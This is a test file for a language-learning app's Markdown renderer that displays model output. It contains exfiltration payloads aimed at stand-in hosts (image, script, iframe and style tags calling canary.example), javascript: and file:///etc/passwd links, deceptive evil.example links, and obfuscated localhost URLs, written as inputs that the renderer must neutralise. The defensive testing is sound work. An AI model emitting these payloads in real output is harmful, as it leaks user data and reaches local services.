import { describe, expect, test } from "bun:test";
import { act, screen, waitFor, within } from "@testing-library/react";
import type { LearningLanguage } from "#shared/languages/types.ts";
import { openPageApp } from "#test/page-app.ts";
import { renderPage } from "#test/render-page.tsx";
import { Prose } from "./prose-view.tsx";

const prose = () => document.querySelector("[data-prose]")?.parentElement ?? document.body;
async function open(text: string, language: LearningLanguage = "ja") {
  const page = await renderPage(<Prose text={text} language={language} messageId="m" />);
  await act(() => import("./markdown.tsx")); // the renderer is lazy
  return page;
}

test("shows no Markdown signs while the renderer is loading, only the space for the text", async () => {
  await using _server = await openPageApp();
  using _page = await renderPage(<Prose text="これは**重要**です。" language="ja" messageId="m" />);
  const marks = [...document.querySelectorAll("p")].filter((each) => each.textContent?.includes("**"));
  expect(marks.every((each) => each.getAttribute("aria-hidden") === "true")).toBe(true);
  expect(await screen.findByText("重要", { selector: "strong" })).toBeTruthy();
  expect(prose().textContent).not.toContain("**");
});

describe("a model's Markdown", () => {
  test.each([
    ["これは**「重要」**です。", "「重要」"],
    ["**Markdown（マークダウン）**は便利。", "Markdown（マークダウン）"],
    ["이것은 **“중요”**합니다.", "“중요”"],
  ])("is bold beside the punctuation of its language: %s", async (text, bold) => {
    await using _server = await openPageApp();
    using _page = await open(text);
    await waitFor(() => expect(document.querySelector("strong")?.textContent).toBe(bold));
  });

  test("draws lists, tables and code", async () => {
    await using _server = await openPageApp();
    using _page = await open("- **one**\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n**as it is\n```");
    expect(await screen.findAllByRole("listitem")).toHaveLength(2);
    expect(screen.getByRole("cell", { name: "2" })).toBeTruthy();
    expect(document.querySelector("pre")?.textContent).toContain("**as it is");
  });

  test.each([
    ["a picture", "![secret](http://canary.example/?q=secret)"],
    ["a picture by reference", "![secret][1]\n\n[1]: http://canary.example/x.png"],
    ["a tag", '<img src="http://canary.example/" srcset="http://canary.example/ 2x">'],
    ["a script", "<script>fetch('http://canary.example/')</script> **x**"],
    ["a frame", '<iframe src="http://canary.example/"></iframe> **x**'],
    ["a style", "<style>body{background:url(http://canary.example/)}</style> **x**"],
    ["a preload", '<link rel="prefetch" href="http://canary.example/"> **x**'],
  ])("loads nothing: %s", async (_, text) => {
    await using server = await openPageApp();
    using _page = await open(text);
    expect(prose().textContent).toContain(text.startsWith("!") ? "[picture: secret]" : text.slice(0, 20)); // shown as text
    expect(prose().querySelector("img, script, iframe, style, link, source, video, object, svg")).toBeNull();
    const routes = new Set(server.requests.map(({ route }) => route));
    expect([...routes]).toEqual(["GET /api/settings"]); // the page itself, and once more if the event connection begins meanwhile
  });

  test.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd"])(
    "has no link to %s",
    async (url) => {
      await using _server = await openPageApp();
      using _page = await open(`**x** [press me](${url})`);
      expect((await screen.findByText("press me")).closest("a")).toBeNull();
    },
  );

  test("shows where a link leads, and sends no referrer", async () => {
    await using _server = await openPageApp();
    using _page = await open("[the grammar](https://example.org/a) and https://example.org/b");
    const links = await screen.findAllByRole<HTMLAnchorElement>("link");
    expect(links.map(({ textContent }) => textContent)).toEqual(["the grammar (example.org)", "https://example.org/b"]);
    for (const link of links) expect([link.rel, link.target]).toEqual(["noopener noreferrer", "_blank"]);
  });
});

describe("a link of a model", () => {
  test.each([
    ["[https://www.mybank.com/login?ref=evil.example](https://evil.example/a)", "evil.example"],
    ["[evil.example.mybank.com](https://evil.example/)", "evil.example"],
    ["[see evil.example](https://evil.example/)", "evil.example"],
    ["[https://evil.example@mybank.com](https://evil.example/)", "evil.example"],
    ["[evil.example**.mybank.com**](https://evil.example/)", "evil.example"],
    ["[https://еvil.example](https://evil.example/)", "evil.example"],
    ["[https://evil.example:444](https://evil.example/)", "evil.example"],
  ])("names its host when its text is not the address of that host: %s (T20)", async (text, host) => {
    await using _server = await openPageApp();
    using _page = await open(text);
    expect((await screen.findByRole("link")).textContent).toEndWith(` (${host})`);
  });

  test("does not repeat a host that its text names", async () => {
    await using _server = await openPageApp();
    using _page = await open("[example.org/grammar](https://example.org/a)");
    expect((await screen.findByRole("link")).textContent).toBe("example.org/grammar");
  });

  test.each([
    "http://127.0.0.1:3000/api/llm/test?provider=ollama",
    "http://localhost:11434/api/delete",
    "http://LOCALHOST.:1/",
    "https://a.localhost/",
    "http://[::1]:3000/",
    "http://[::]:3000/",
    "http://0.0.0.0:3000/",
    "http://0:3000/",
    "http://2130706433/",
    "http://0x7f.1/",
    "http://0177.0.0.1/",
    "http://127.1:8080/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:7f00:1]/",
    "http://[::127.0.0.1]/",
    "http://[64:ff9b::127.0.0.1]/",
    "http://１２７.0.0.1/",
    "http://127.0.0.1%2e/",
  ])("leads to no server on this computer: %s (T20)", async (url) => {
    await using _server = await openPageApp();
    using _page = await open(`**x** [press me](${url}) and <${url}>`);
    await screen.findByText("press me", { exact: false });
    expect(screen.queryByRole("link")).toBeNull();
  });

  test("leads to other hosts", async () => {
    await using _server = await openPageApp();
    using _page = await open(
      ["8.8.8.8", "128.0.0.1", "localhost.example"].map((host) => `[x](http://${host}/)`).join(" "),
    );
    expect(await screen.findAllByRole("link")).toHaveLength(3);
  });
});

describe("a sentence of the language in prose", () => {
  test("can be pressed even when it has bold words", async () => {
    await using _server = await openPageApp();
    using _page = await open("- **私**は学生です。\n- It means: I am a *student*.");
    const buttons = await screen.findAllByRole("button");
    expect(buttons.map(({ textContent, lang }) => [textContent, lang])).toEqual([["私は学生です。", "ja"]]);
    expect(prose().textContent).toContain("I am a student.");
  });

  test("is not a button in a link or in code", async () => {
    await using _server = await openPageApp();
    using _page = await open("[日本に行きたいです。](https://example.org) `日本に行きたいです。`");
    await screen.findByRole("link");
    expect(screen.queryByRole("button")).toBeNull();
  });

  test("opens its card under the paragraph with Enter, and closes it again", async () => {
    // the model writes nothing yet: the card's content comes from the dictionary
    await using server = await openPageApp({ ollama: { script: { ready: new Promise(() => {}) } } });
    const { conversationId } = await server.app.send("What can I ask?");
    const [, tutors] = (await server.app.conversation(conversationId ?? "")).messages;
    const messageId = tutors?.id ?? "";
    using page = await renderPage(<Prose text={"何の映画を見ましたか。\n\nSo."} language="ja" messageId={messageId} />);
    const sentence = screen.getByRole("button", { name: "何の映画を見ましたか。" });
    sentence.focus();
    await page.user.keyboard("{Enter}");
    expect(sentence.getAttribute("aria-expanded")).toBe("true");
    const { host } = new URL(server.ollama.url);
    const responder = { provider: "ollama", model: "gemma3:12b", host, goesTo: "computer" };
    await waitFor(() =>
      expect(server.bodies("POST /api/cards")).toMatchObject([
        { text: "何の映画を見ましたか。", context: { before: [], after: [] }, language: "ja", messageId, responder },
      ]),
    );
    const card = () => within(screen.getByRole("article", { name: "Card: 何の映画を見ましたか。" }));
    // the dictionary takes a while to load
    await waitFor(() => expect(card().getAllByText("えいが")).not.toBeEmpty(), { timeout: 15_000 });
    expect(card().getAllByTitle("from the dictionary").length).toBeGreaterThan(1);

    await page.user.click(screen.getByRole("button", { name: "Close the card" }));
    expect(screen.queryByRole("article")).toBeNull();
  });
});
